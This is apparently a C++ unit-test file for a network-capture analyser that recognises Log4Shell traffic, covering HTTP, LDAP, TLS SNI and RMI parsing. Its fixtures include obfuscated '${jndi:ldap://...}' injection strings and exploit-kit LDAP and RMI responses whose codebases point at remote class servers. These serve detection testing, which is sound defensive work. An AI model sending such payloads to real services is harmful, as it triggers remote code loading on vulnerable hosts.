#include "pcap/wire.h"

#include <gtest/gtest.h>

#include "net/ber.h"
#include "pcap/test_frames.h"

namespace l4s::pcap {
namespace {

using testing::hex;

TEST(Http, HeadEndAcrossCrLfAndLf) {
  EXPECT_EQ(find_head_end("GET / HTTP/1.1\r\nHost: a\r\n\r\nbody"), 27u);
  EXPECT_EQ(find_head_end("GET / HTTP/1.0\n\nX"), 16u);
  EXPECT_EQ(find_head_end("GET / HTTP/1.1\r\nHost: a\r\n"), std::string_view::npos);
  // Resuming a search where the previous one stopped still sees a terminator split across reads.
  std::string s = "GET / HTTP/1.1\r\nHost: a\r\n\r";
  EXPECT_EQ(find_head_end(s), std::string_view::npos);
  s += "\n";
  EXPECT_EQ(find_head_end(s, s.size() - 1), s.size());
}

TEST(Http, RequestRecognitionIncludingAPayloadAsMethod) {
  bool complete = false;
  EXPECT_TRUE(looks_like_http_request("GET /x HTTP/1.1\r\n", &complete));
  EXPECT_TRUE(looks_like_http_request("PROPFIND /dav HTTP/1.0\n", &complete));
  // Fox-IT's http-method captures: the method is the payload, spaces included.
  EXPECT_TRUE(looks_like_http_request("${${:  :  : :::-j}ndi:ldap://h/a} /test HTTP/1.1\r\nHost: x\r\n", &complete));
  EXPECT_FALSE(looks_like_http_request("${jndi:ldap://h/a} /test HTTP/1.1", &complete));
  EXPECT_FALSE(complete) << "no line end yet: undecided";
  EXPECT_FALSE(looks_like_http_request(std::string("\x30\x0c\x02\x01\x01\x60\x07\x02\x01\x03\x04\x00\x80\x00", 14), &complete));
  EXPECT_TRUE(complete) << "a NUL decides: not HTTP";
  EXPECT_FALSE(looks_like_http_request("EHLO mail.example.org\r\n", &complete));
  EXPECT_TRUE(looks_like_http_response("HTTP/1.1 200 OK\r\n"));
}

TEST(Http, ParseHead) {
  HttpHead h;
  ASSERT_TRUE(parse_http_head("${a b} /p?q=1 HTTP/1.1\r\nHost: h:8080\r\nuser-agent:  Java/1.8.0_181 \r\n"
                            "Content-Length: 24\r\nTransfer-Encoding: gzip, chunked\r\nbroken line\r\n",
                            &h));
  EXPECT_FALSE(h.is_response);
  EXPECT_EQ(h.method, "${a b}");
  EXPECT_EQ(h.target, "/p?q=1");
  EXPECT_EQ(h.host, "h:8080");
  EXPECT_EQ(h.user_agent, "Java/1.8.0_181");
  EXPECT_EQ(h.content_length, 24);
  EXPECT_TRUE(h.chunked);
  ASSERT_EQ(h.headers.size(), 5u);
  EXPECT_EQ(h.headers[4].name, "");
  EXPECT_EQ(h.headers[1].line, "user-agent:  Java/1.8.0_181 ");
  ASSERT_TRUE(parse_http_head("HTTP/1.1 200 OK\r\nContent-Type: application/java-vm\r\n", &h));
  EXPECT_TRUE(h.is_response);
  EXPECT_EQ(h.status, 200);
  EXPECT_EQ(h.content_type, "application/java-vm");
  EXPECT_EQ(h.content_length, -1);
}

net::Bytes op_value(const std::string& message) {
  net::BerElement msg, id, op;
  net::ber_read(net::as_bytes(message), message.size(), &msg);
  net::BerReader r(msg.value);
  r.next(&id);
  r.next(&op);
  return op.value;
}

TEST(Ldap, JndiSearchShape) {
  // The JDK's lookup("ldap://h/tok-abc123") SearchRequest (research/network.md 4.1).
  std::string search = hex(
      "304c020102632a040a746f6b2d6162633132330a01000a0103020100020100010100870b6f626a656374436c6173733000a01b3019"
      "0417322e31362e3834302e312e3131333733302e332e342e32");
  LdapSearchShape s;
  ASSERT_TRUE(parse_ldap_search(op_value(search), &s));
  EXPECT_EQ(s.base_object, "tok-abc123");
  EXPECT_TRUE(s.jndi_shape);
  // A directory client's subtree search is not the JNDI shape.
  std::string subtree = search;
  subtree[2 + 3 + 2 + 12 + 2] = 2;  // scope wholeSubtree
  ASSERT_TRUE(parse_ldap_search(op_value(subtree), &s));
  EXPECT_FALSE(s.jndi_shape);
}

TEST(Ldap, EntryWithJavaAttributes) {
  // NCSC-NL Generic_LDAP_bind.pcap frame 4 (JNDI-Exploit-Kit).
  std::string entry = hex(
      "3072020102646d04066a636e3777683063301e04126a61766153657269616c697a6564446174613108040668656c6c6f0a3029040c"
      "6a617661436f64654261736531190417687474703a2f2f3137322e31382e302e333a383138302f3016040d6a617661436c6173734e"
      "616d6531050403666f6f");
  LdapEntryInfo info;
  ASSERT_TRUE(parse_ldap_entry(op_value(entry), &info));
  EXPECT_EQ(info.dn, "jcn7wh");
  ASSERT_EQ(info.java_attributes.size(), 3u);
  EXPECT_EQ(info.java_attributes[0], "javaSerializedData=6 bytes");
  EXPECT_EQ(info.java_attributes[1], "javaCodeBase=http://172.18.0.3:8180/");
  EXPECT_EQ(info.java_attributes[2], "javaClassName=foo");
  // Truncated: rejected, not over-read.
  LdapEntryInfo partial;
  net::Bytes v = op_value(entry);
  EXPECT_FALSE(parse_ldap_entry(v.first(v.size() - 3), &partial));
}

std::string client_hello(const std::string& sni) {
  std::string ext;
  if (!sni.empty()) {
    std::string list;
    list.push_back(0);
    net::append_be16(&list, static_cast<uint16_t>(sni.size()));
    list += sni;
    net::append_be16(&ext, 0);  // server_name
    net::append_be16(&ext, static_cast<uint16_t>(list.size() + 2));
    net::append_be16(&ext, static_cast<uint16_t>(list.size()));
    ext += list;
  }
  std::string body = "\x03\x03" + std::string(32, 'r');
  body.push_back(0);                          // session id
  body += std::string("\x00\x02\x13\x01", 4); // one cipher suite
  body += std::string("\x01\x00", 2);         // compression: null
  net::append_be16(&body, static_cast<uint16_t>(ext.size()));
  body += ext;
  std::string hs = "\x01";
  hs += std::string(1, '\0') + static_cast<char>(body.size() >> 8) + static_cast<char>(body.size() & 0xff);
  hs += body;
  std::string rec = "\x16\x03\x01";
  net::append_be16(&rec, static_cast<uint16_t>(hs.size()));
  return rec + hs;
}

TEST(Tls, ServerNameOfAClientHello) {
  std::string name;
  std::string hello = client_hello("ldaps.suspect.network");
  EXPECT_EQ(parse_tls_sni(net::as_bytes(hello), &name), net::ParseStatus::kOk);
  EXPECT_EQ(name, "ldaps.suspect.network");
  EXPECT_EQ(parse_tls_sni(net::as_bytes(hello).first(hello.size() - 1), &name), net::ParseStatus::kNeedMore);
  std::string no_sni = client_hello("");
  EXPECT_EQ(parse_tls_sni(net::as_bytes(no_sni), &name), net::ParseStatus::kOk);
  EXPECT_EQ(name, "");
  std::string lying = hello;
  lying[hello.size() - 22] = 0x7f;  // server name longer than its extension
  EXPECT_EQ(parse_tls_sni(net::as_bytes(lying), &name), net::ParseStatus::kMalformed);
}

TEST(Rmi, ReturnData) {
  std::string reference = "\x51\xac\xed\x00\x05" + std::string("sr\x00\x2a") +
                          "com.sun.jndi.rmi.registry.ReferenceWrapper..." + std::string("t\x00\x16", 3) +
                          "http://10.0.0.9:8180/#" + "xr";
  EXPECT_EQ(describe_rmi_return(net::as_bytes(reference)),
            "serialized object (com.sun.jndi.rmi.registry.ReferenceWrapper, codebase http://10.0.0.9:8180/#)");
  EXPECT_EQ(describe_rmi_return(net::as_bytes(std::string("\x51\xca\xfe\xba\xbe\x00", 6))), "class file");
  EXPECT_EQ(describe_rmi_return(net::as_bytes(std::string("\x4e\x00", 2))), "");
}

TEST(Printable, EscapesAndBounds) {
  EXPECT_EQ(printable(std::string("a\x00\\\xff", 4)), "a\\x00\\x5c\\xff");
  EXPECT_EQ(printable("abcdef", 3), "abc...");
}

}  // namespace
}  // namespace l4s::pcap
